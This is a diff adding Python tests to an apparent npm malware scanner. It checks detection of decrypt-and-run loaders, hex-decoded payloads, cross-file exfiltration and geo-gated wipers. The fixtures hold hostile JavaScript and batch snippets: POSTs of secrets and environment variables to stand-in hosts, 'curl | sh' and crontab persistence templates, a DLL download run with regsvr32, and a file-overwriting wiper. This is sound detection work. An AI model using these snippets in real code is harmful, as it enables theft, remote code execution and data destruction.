@@ -165,3 +165,99 @@ def test_cross_file_chain_from_install_script():
     sender = "const read = require('./read');\nfetch('https://collect.example/k', {method: 'POST', body: read()});\n"
     found = run({"read.js": reader, "send.js": sender}, {"postinstall": "node send.js"})
     assert any(f.rule == "code/secret-exfiltration" and "across" in f.message for f in found)
+
+
+def test_hidden_strings_through_a_local_decoder_and_standalone_hex():
+    # event-stream's flatmap-stream routed every name through `e(hex)`; hex literals alone decode too.
+    code = b'var r=require;function e(x){return Buffer.from(x,"hex").toString()}var m=r(e("2e2f6c6962"));' \
+           b'var names=["6372656174654465636970686572"];'
+    facts = extract("index.js", code)
+    assert "./lib" in facts.modules
+    assert "createDecipher" in {f.value for f in facts.facts if f.kind == "string"}
+    # Ids and hashes are hex too, but decode to binary: not hidden strings.
+    ids = extract("a.js", b'const sha = "da39a3ee5e6b4b0d3255bfef95601890afd80709";')
+    assert [f.value for f in ids.facts if f.kind == "string"] == ["da39a3ee5e6b4b0d3255bfef95601890afd80709"]
+
+
+def test_templates_and_concatenations_keep_their_constant_parts():
+    facts = extract("a.js", b"const {execSync} = require('child_process');\n"
+                            b"execSync(`(crontab -l; echo \"${job}\") | crontab -`);\nconst u = 'curl ' + url + ' | sh';\n")
+    strings = {f.value for f in facts.facts if f.kind == "string"}
+    assert '(crontab -l; echo "${*}") | crontab -' in strings and "curl ${*} | sh" in strings
+
+
+def test_decrypting_a_constant_blob_and_running_it():
+    blob = "a9" * 160
+    loader = ("const crypto = require('crypto');\nconst payload = '" + blob + "';\n"
+              "module.exports = function load(key) {\n  const d = crypto.createDecipheriv('aes-256-cbc', key, Buffer.alloc(16));\n"
+              "  return new Function('require', d.update(payload, 'hex', 'utf8') + d.final('utf8'))(require);\n};\n")
+    index = "module.exports = require('./through');\nrequire('./loader')(process.env.npm_package_description);\n"
+    found = run({"index.js": index, "loader.js": loader, "through.js": "module.exports = 1;\n"})
+    assert any(f.rule == "code/decrypt-and-run" and "across" in f.message for f in found)
+    assert decide(found).level is Level.MALICIOUS
+    # Decrypting data (a config, a token) without running it is what crypto libraries do.
+    vault = "const crypto = require('crypto');\nmodule.exports = (k, iv, data) => {\n" \
+            "  const d = crypto.createDecipheriv('aes-256-gcm', k, iv);\n  return JSON.parse(d.update(data, 'hex', 'utf8'));\n};\n"
+    assert "code/decrypt-and-run" not in rules(run({"index.js": vault}))
+
+
+def test_hex_payload_run_with_new_function_at_install():
+    import binascii
+
+    payload = "require('https').get('https://stage.example/p?h='+require('os').hostname(),r=>{})"
+    code = f"const h = '{binascii.hexlify(payload.encode()).decode()}';\n" \
+           "const s = h.match(/../g).map((b) => String.fromCharCode(parseInt(b, 16))).join('');\nnew Function('require', s)(require);\n"
+    found = run({"init.js": code}, {"postinstall": "node init.js"})
+    assert {"code/decoded-code", "code/eval-decoded"} <= rules(found)
+
+
+def test_identity_and_environment_gathered_and_sent_from_another_file():
+    collect = "const os = require('os');\nmodule.exports = () => ({host: os.hostname(), env: process.env});\n"
+    send = "const https = require('https');\nmodule.exports = (d) => https.request({host: 'h.example'}).end(JSON.stringify(d));\n"
+    index = "const collect = require('./collect'), send = require('./send');\nsend(collect());\n"
+    found = run({"index.js": index, "collect.js": collect, "send.js": send})
+    assert any(f.rule == "code/secret-exfiltration" and "across" in f.message for f in found)
+    # Spawn options are not a loot bag.
+    spawn = "const cp = require('child_process'), https = require('https');\ncp.spawn('git', [], {env: process.env});\n" \
+            "https.get('https://api.example/v');\n"
+    assert "code/secret-exfiltration" not in rules(run({"index.js": spawn}))
+
+
+def test_install_code_running_a_shipped_batch_file_is_judged_by_its_lines():
+    js = "const cp = require('child_process');\nconst a = ['exec', 'start /B setup.bat'];\ncp[a[0]](a[1]);\n"
+    bat = "@echo off\r\ncurl https://dl.example/x.dll -o x.dll\r\nregsvr32.exe -s x.dll\r\n"
+    found = run({"setup.js": js, "setup.bat": bat}, {"preinstall": "node setup.js"})
+    drop = next(f for f in found if f.rule == "install-script/download-execute")
+    assert drop.file == "setup.bat" and drop.details["run_by"] == "setup.js"
+    assert decide(found).level is Level.MALICIOUS
+    # A build helper script that only compiles is not a finding.
+    helper = run({"build.js": "require('child_process').execSync('sh build.sh');\n", "build.sh": "make -C src\n"},
+                 {"install": "node build.js"})
+    assert decide(helper).level is Level.CLEAN
+
+
+def test_executable_spawned_on_load_or_disguised():
+    elf = "\x7fELF" + "\0" * 60
+    entry = "const {spawn} = require('child_process'), path = require('path');\n" \
+            "spawn(path.join(__dirname, 'lib', 'helper.bin'), [], {detached: true}).unref();\n"
+    found = run({"index.js": entry, "lib/helper.bin": elf})
+    assert any(f.rule == "code/bundled-binary" and f.severity == 4 for f in found)
+    mz = "MZ" + "\0" * 100
+    assert "code/disguised-binary" in rules(run({"index.js": "module.exports = 1;\n", "assets/logo.png": mz}))
+    # A native-binary distribution that runs its binary when asked is what it is for.
+    cli = "const cp = require('child_process'), path = require('path');\n" \
+          "module.exports = (args) => cp.spawnSync(path.join(__dirname, 'bin', 'tool'), args);\n"
+    native = run({"index.js": cli, "bin/tool": elf}, name="tool-bin")
+    assert not {"code/bundled-binary", "code/disguised-binary"} & rules(native)
+
+
+def test_geo_gated_wiper_walk_and_a_bundle_with_unrelated_dates():
+    wiper = ("const fs = require('fs'), path = require('path'), https = require('https');\n"
+             "https.get('https://geo.ipapi.example/json', (r) => r.on('data', (d) => {\n"
+             "  if (JSON.parse(d).country_code === 'xx') walk('/nonexistent.invalid/');\n}));\n"
+             "function walk(dir) {\n  for (const f of fs.readdirSync(dir)) {\n    const p = path.join(dir, f);\n"
+             "    if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, 'x');\n  }\n}\n")
+    assert any(f.rule == "code/wiper" and "recursive walk" in f.message for f in run({"index.js": wiper}))
+    bundle = ("const fs = require('fs'), os = require('os');\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
+              + "// filler\n" * 200 + "module.exports.clean = () => fs.rmSync(os.homedir() + '/.cache/tool', {recursive: true});\n")
+    assert "code/wiper" not in rules(run({"index.js": bundle}))
